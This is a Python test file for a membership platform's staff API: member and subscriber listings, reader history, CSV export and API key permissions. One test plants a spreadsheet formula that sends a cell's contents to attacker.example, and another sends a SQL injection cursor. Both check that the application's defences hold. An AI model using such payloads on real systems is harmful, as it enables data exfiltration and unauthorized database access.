"""Members, subscribers, a reader's history and the CSV export: for staff, or keys with `members:read`."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any
from uuid import UUID

import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy import select

from membership.apikeys.services import ApiKeyService
from membership.plans.models import Tier
from membership.publications.models import Publication
from membership.subscriptions.models import Subscription
from tests.membership.helpers import with_cookie
from tests.membership.publications.test_publications import as_reader, make_publication
from tests.membership.tokens.test_tokens import bearer, db, give, now, reader_id

BASE = "/api/publications/daily"


@dataclass
class World:
    members: dict[str, UUID]
    others: dict[str, UUID]
    ends: dict[str, datetime]
    tiers: dict[str, UUID]
    subscriptions: dict[str, UUID]


async def publication_id(database_url: str, slug: str) -> UUID:
    async with db(database_url) as session:
        return (await session.scalars(select(Publication.id).where(Publication.slug == slug))).one()


async def key_for(database_url: str, slug: str | None, scopes: list[str]) -> str:
    pid = await publication_id(database_url, slug) if slug else None
    async with db(database_url) as session:
        _, secret = await ApiKeyService(session).create("crm", scopes, publication_id=pid, created_by_id=None)
    return secret


async def build(database_url: str) -> World:
    """Two publications; five members of `daily`, and readers who are not (ended, revoked, elsewhere)."""
    await make_publication(database_url, "daily", "owner@example.com")
    await make_publication(database_url, "other", "other-owner@example.com")
    await make_publication(database_url, "daily-news", "news-owner@example.com")
    ends = {
        "m2": now() + timedelta(days=10),
        "m3-trial": now() + timedelta(days=5),
        "m4": now() + timedelta(days=20),
        "m4-trial": now() + timedelta(days=2),
        "m5": now() + timedelta(days=1),
    }
    m = {
        name: await reader_id(database_url, f"{name}@example.com") for name in ["m1", "m2", "m3", "m4", "m5"]
    }
    n = {
        name: await reader_id(database_url, f"{name}@example.com")
        for name in ["n1", "n2", "n3", "n4", "n5", "n6"]
    }
    await give(database_url, m["m1"], {"pub:daily"}, source="comp", source_id="daily:1")
    await give(
        database_url,
        m["m2"],
        {"pub:daily:premium"},
        source="subscription",
        source_id="s2",
        ends_at=ends["m2"],
    )
    await give(database_url, m["m3"], {"pub:daily"}, source="comp", source_id="daily:3")
    await give(
        database_url, m["m3"], {"pub:daily:premium"}, source="trial", source_id="t3", ends_at=ends["m3-trial"]
    )
    await give(
        database_url, m["m4"], {"pub:daily"}, source="subscription", source_id="s4", ends_at=ends["m4"]
    )
    await give(database_url, m["m4"], {"pub:daily"}, source="trial", source_id="t4", ends_at=ends["m4-trial"])
    await give(database_url, m["m5"], {"pub:daily"}, source="trial", source_id="t5", ends_at=ends["m5"])
    # Not members of daily:
    await give(
        database_url, n["n1"], {"pub:daily"}, source="subscription", source_id="s-n1",
        starts_at=now() - timedelta(days=40), ends_at=now() - timedelta(days=1),
    )  # fmt: skip
    await give(database_url, n["n2"], {"pub:daily"}, source="comp", source_id="daily:n2")
    await give(database_url, n["n2"], {"pub:daily"}, source="comp", source_id="daily:n2", revoke=True)
    await give(database_url, n["n3"], {"pub:other"}, source="comp", source_id="other:n3")
    await give(database_url, n["n4"], {"pub:daily-news"}, source="comp", source_id="daily-news:n4")
    await give(
        database_url,
        n["n5"],
        {"pub:daily"},
        source="comp",
        source_id="daily:n5",
        starts_at=now() + timedelta(days=1),
    )
    await give(database_url, n["n6"], {"member"}, source="subscription", source_id="s-n6")

    daily, other = await publication_id(database_url, "daily"), await publication_id(database_url, "other")
    async with db(database_url) as session:
        tiers = {
            "premium": Tier(publication_id=daily, name="Premium", entitlement_keys=["pub:daily:premium"]),
            "basic": Tier(publication_id=daily, name="Basic", entitlement_keys=["pub:daily"]),
            "theirs": Tier(publication_id=other, name="Theirs", entitlement_keys=["pub:other"]),
        }
        session.add_all(tiers.values())
        await session.flush()
        rows = {
            "s-m2": (m["m2"], "premium", "active"),
            "s-m4": (m["m4"], "basic", "active"),
            "s-n1": (n["n1"], "premium", "canceled"),
            "s-m5": (m["m5"], "premium", "trialing"),
            "s-n3": (n["n3"], "theirs", "active"),
        }
        subscriptions = {
            name: Subscription(
                reader_id=rid,
                tier_id=tiers[tier].id,
                stripe_subscription_id=f"sub_{name}",
                stripe_customer_id=f"cus_{name}",
                status=status,
                current_period_end=now() + timedelta(days=30),
                synced_at=now(),
            )
            for name, (rid, tier, status) in rows.items()
        }
        session.add_all(subscriptions.values())
        await session.flush()
    return World(m, n, ends, {k: t.id for k, t in tiers.items()}, {k: s.id for k, s in subscriptions.items()})


async def get_json(client: AsyncTestClient[Litestar], path: str, **params: Any) -> dict[str, Any]:
    response = await client.get(path, params=params)
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


async def walk(
    client: AsyncTestClient[Litestar], path: str, field: str, **params: Any
) -> list[list[dict[str, Any]]]:
    pages: list[list[dict[str, Any]]] = []
    cursor = None
    while True:
        body = await get_json(client, path, **params, **({"cursor": cursor} if cursor else {}))
        pages.append(body[field])
        cursor = body["next_cursor"]
        if cursor is None:
            return pages
        assert len(pages) < 20, "the cursor never ends"


async def test_members_are_readers_with_live_grants_of_the_publication(
    client: AsyncTestClient[Litestar], database_url: str
) -> None:
    world = await build(database_url)
    await as_reader(client, "owner@example.com")
    body = await get_json(client, f"{BASE}/members")
    assert body["next_cursor"] is None
    found = {m["reader_id"]: m for m in body["members"]}
    assert set(found) == {str(rid) for rid in world.members.values()}
    m = {name: found[str(rid)] for name, rid in world.members.items()}
    assert m["m1"]["email"] == "m1@example.com" and m["m1"]["display_name"] == "m1"
    assert (m["m1"]["keys"], m["m1"]["sources"], m["m1"]["until"]) == (["pub:daily"], ["comp"], None)
    assert m["m2"]["keys"] == ["pub:daily:premium"] and m["m2"]["sources"] == ["subscription"]
    assert datetime.fromisoformat(m["m2"]["until"]) == world.ends["m2"]
    # A grant with no end makes the member open-ended, whatever else ends.
    assert m["m3"]["keys"] == ["pub:daily", "pub:daily:premium"] and m["m3"]["sources"] == ["comp", "trial"]
    assert m["m3"]["until"] is None
    # Two ends: the later one.
    assert m["m4"]["sources"] == ["subscription", "trial"]
    assert datetime.fromisoformat(m["m4"]["until"]) == world.ends["m4"]


@pytest.mark.parametrize(
    ("source", "expected"),
    [("comp", {"m1", "m3"}), ("trial", {"m3", "m4", "m5"}), ("subscription", {"m2", "m4"}), ("gift", set())],
)
async def test_members_filter_by_source(
    client: AsyncTestClient[Litestar], database_url: str, source: str, expected: set[str]
) -> None:
    world = await build(database_url)
    await as_reader(client, "owner@example.com")
    body = await get_json(client, f"{BASE}/members", source=source)
    assert {m["reader_id"] for m in body["members"]} == {str(world.members[name]) for name in expected}
    assert all(m["sources"] == [source] for m in body["members"])


async def test_member_pages_visit_every_member_exactly_once(
    client: AsyncTestClient[Litestar], database_url: str
) -> None:
    world = await build(database_url)
    await as_reader(client, "owner@example.com")
    pages = await walk(client, f"{BASE}/members", "members", limit=2)
    assert [len(p) for p in pages] == [2, 2, 1]
    seen = [m["reader_id"] for page in pages for m in page]
    assert sorted(seen) == sorted(str(rid) for rid in world.members.values())
    assert len(set(seen)) == len(seen)
    # A page that holds the rest exactly says there is no more.
    assert (await get_json(client, f"{BASE}/members", limit=5))["next_cursor"] is None
    pages = await walk(client, f"{BASE}/members", "members", limit=1, source="trial")
    assert sorted(m["reader_id"] for page in pages for m in page) == sorted(
        str(world.members[name]) for name in ["m3", "m4", "m5"]
    )


async def test_subscribers_filter_by_tier_and_status(
    client: AsyncTestClient[Litestar], database_url: str
) -> None:
    world = await build(database_url)
    await as_reader(client, "owner@example.com")

    async def ids(**params: Any) -> set[str]:
        body = await get_json(client, f"{BASE}/subscribers", **params)
        return {s["subscription"]["id"] for s in body["subscribers"]}

    def subs(*names: str) -> set[str]:
        return {str(world.subscriptions[name]) for name in names}

    assert await ids() == subs("s-m2", "s-m4", "s-n1", "s-m5")
    assert await ids(tier=str(world.tiers["premium"])) == subs("s-m2", "s-n1", "s-m5")
    assert await ids(tier=str(world.tiers["basic"])) == subs("s-m4")
    assert await ids(status="active") == subs("s-m2", "s-m4")
    assert await ids(tier=str(world.tiers["premium"]), status="canceled") == subs("s-n1")
    assert await ids(tier=str(world.tiers["theirs"])) == set()

    body = await get_json(client, f"{BASE}/subscribers", status="trialing")
    [only] = body["subscribers"]
    assert only["reader_id"] == str(world.members["m5"]) and only["email"] == "m5@example.com"
    assert only["subscription"]["tier_name"] == "Premium" and only["subscription"]["status"] == "trialing"
    assert only["subscription"]["tier_id"] == str(world.tiers["premium"])

    pages = await walk(client, f"{BASE}/subscribers", "subscribers", limit=2)
    assert [len(p) for p in pages] == [2, 2]
    seen = [s["subscription"]["id"] for page in pages for s in page]
    assert sorted(seen) == sorted(subs("s-m2", "s-m4", "s-n1", "s-m5"))
    pages = await walk(
        client, f"{BASE}/subscribers", "subscribers", limit=1, tier=str(world.tiers["premium"])
    )
    assert sorted(s["subscription"]["id"] for page in pages for s in page) == sorted(
        subs("s-m2", "s-n1", "s-m5")
    )


async def test_history_includes_ended_and_revoked_grants_of_this_publication_only(
    client: AsyncTestClient[Litestar], database_url: str
) -> None:
    world = await build(database_url)
    rid = world.others["n1"]  # an ended subscription to daily
    await give(database_url, rid, {"pub:daily:extra"}, source="comp", source_id="daily:h")
    await give(database_url, rid, {"pub:daily:extra"}, source="comp", source_id="daily:h", revoke=True)
    await give(
        database_url, rid, {"pub:daily"}, source="trial", source_id="t-h", ends_at=now() + timedelta(days=3)
    )
    await give(database_url, rid, {"pub:other"}, source="comp", source_id="other:h")
    await as_reader(client, "owner@example.com")
    body = await get_json(client, f"{BASE}/readers/{rid}/history")
    assert body["reader_id"] == str(rid)
    assert sorted((g["key"], g["source"], g["source_id"]) for g in body["grants"]) == [
        ("pub:daily", "subscription", "s-n1"),
        ("pub:daily", "trial", "t-h"),
        ("pub:daily:extra", "comp", "daily:h"),
    ]
    ended = next(g for g in body["grants"] if g["source"] == "subscription")
    assert datetime.fromisoformat(ended["ends_at"]) < now()
    assert len(body["revoked"]) == 1 and body["revoked"][0].startswith("pub:daily:extra (comp) at ")
    assert [s["id"] for s in body["subscriptions"]] == [str(world.subscriptions["s-n1"])]
    assert body["subscriptions"][0]["status"] == "canceled"

    # Someone else's reader (another publication only) has no history here.
    other = await get_json(client, f"{BASE}/readers/{world.others['n3']}/history")
    assert other["grants"] == [] and other["subscriptions"] == [] and other["revoked"] == []


async def test_members_csv_has_a_header_and_one_line_per_member(
    client: AsyncTestClient[Litestar], database_url: str
) -> None:
    world = await build(database_url)
    owner = await as_reader(client, "owner@example.com")
    # A display name a CSV writer has to quote.
    await as_reader(client, "m1@example.com")
    assert (await client.patch("/api/me", json={"display_name": 'Ann, "the\nreader"'})).status_code == 200
    client.cookies.clear()
    response = await client.get(f"{BASE}/members.csv", headers=with_cookie(owner))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment") and 'filename="daily-members.csv"' in disposition
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["reader_id", "email", "display_name", "keys", "sources", "until"]
    body = rows[1:]
    assert len(body) == 5
    by_id = {r[0]: r for r in body}
    assert set(by_id) == {str(rid) for rid in world.members.values()}
    assert by_id[str(world.members["m1"])][1:] == [
        "m1@example.com",
        'Ann, "the\nreader"',
        "pub:daily",
        "comp",
        "",
    ]
    m3 = by_id[str(world.members["m3"])]
    assert m3[3:] == ["pub:daily pub:daily:premium", "comp trial", ""]
    m4 = by_id[str(world.members["m4"])]
    assert datetime.fromisoformat(m4[5]) == world.ends["m4"]


async def test_members_csv_neutralises_formulas(client: AsyncTestClient[Litestar], database_url: str) -> None:
    await build(database_url)
    owner = await as_reader(client, "owner@example.com")
    await as_reader(client, "m1@example.com")
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
    assert (await client.patch("/api/me", json={"display_name": formula})).status_code == 200
    client.cookies.clear()
    response = await client.get(f"{BASE}/members.csv", headers=with_cookie(owner))
    assert response.status_code == 200, response.text
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Still the reader's name, only made inert.
    assert [cell for cell in cells if formula in cell]


ENDPOINTS = ["members", "subscribers", "readers/{rid}/history", "members.csv"]


async def test_keys_with_members_read_for_the_publication_can_read(
    client: AsyncTestClient[Litestar], database_url: str
) -> None:
    world = await build(database_url)
    own = await key_for(database_url, "daily", ["members:read"])
    platform = await key_for(database_url, None, ["members:read"])
    foreign = await key_for(database_url, "other", ["members:read"])
    unscoped = await key_for(database_url, "daily", ["staff:read", "entitlements:read"])
    client.cookies.clear()
    for endpoint in ENDPOINTS:
        path = f"{BASE}/{endpoint.format(rid=world.members['m3'])}"
        for secret in (own, platform):
            allowed = await client.get(path, headers=bearer(secret))
            assert allowed.status_code == 200, (path, allowed.text)
        for secret, status in ((foreign, 403), (unscoped, 403), ("tgk_" + "x" * 43, 401), ("nonsense", 401)):
            refused = await client.get(path, headers=bearer(secret))
            assert refused.status_code == status, (path, secret[:8], refused.text)
            assert refused.headers["content-type"].startswith("application/problem+json")
        assert (await client.get(path)).status_code == 401
    listed = (await client.get(f"{BASE}/members", headers=bearer(own))).json()["members"]
    assert len(listed) == 5


async def test_only_staff_read_members_with_a_session(
    client: AsyncTestClient[Litestar], database_url: str
) -> None:
    world = await build(database_url)
    owner = await as_reader(client, "owner@example.com")
    added = await client.post(f"{BASE}/staff", json={"email": "editor@example.com"})
    assert added.status_code == 201
    paths = [f"{BASE}/{endpoint.format(rid=world.members['m1'])}" for endpoint in ENDPOINTS]
    for email, status in [
        ("editor@example.com", 200),
        ("m1@example.com", 403),
        ("other-owner@example.com", 403),
    ]:
        await as_reader(client, email)
        for path in paths:
            assert (await client.get(path)).status_code == status, (email, path)
    client.cookies.clear()
    for path in paths:
        assert (await client.get(path, headers=with_cookie(owner))).status_code == 200
    assert (
        await client.get("/api/publications/nowhere/members", headers=with_cookie(owner))
    ).status_code == 404


@pytest.mark.parametrize("endpoint", ["members", "subscribers"])
# A fixed uuid less its last digit: ids from uuid4() would differ between xdist workers.
@pytest.mark.parametrize(
    "cursor", ["not-a-cursor", "1", "' OR 1=1 --", "8f14e45f-ceea-467f-a0e6-000000000000"[:-1]]
)
async def test_a_bad_cursor_is_400(
    client: AsyncTestClient[Litestar], database_url: str, endpoint: str, cursor: str
) -> None:
    await build(database_url)
    await as_reader(client, "owner@example.com")
    response = await client.get(f"{BASE}/{endpoint}", params={"cursor": cursor})
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/problem+json")


async def test_a_bad_tier_filter_is_400(client: AsyncTestClient[Litestar], database_url: str) -> None:
    await build(database_url)
    await as_reader(client, "owner@example.com")
    response = await client.get(f"{BASE}/subscribers", params={"tier": "premium"})
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
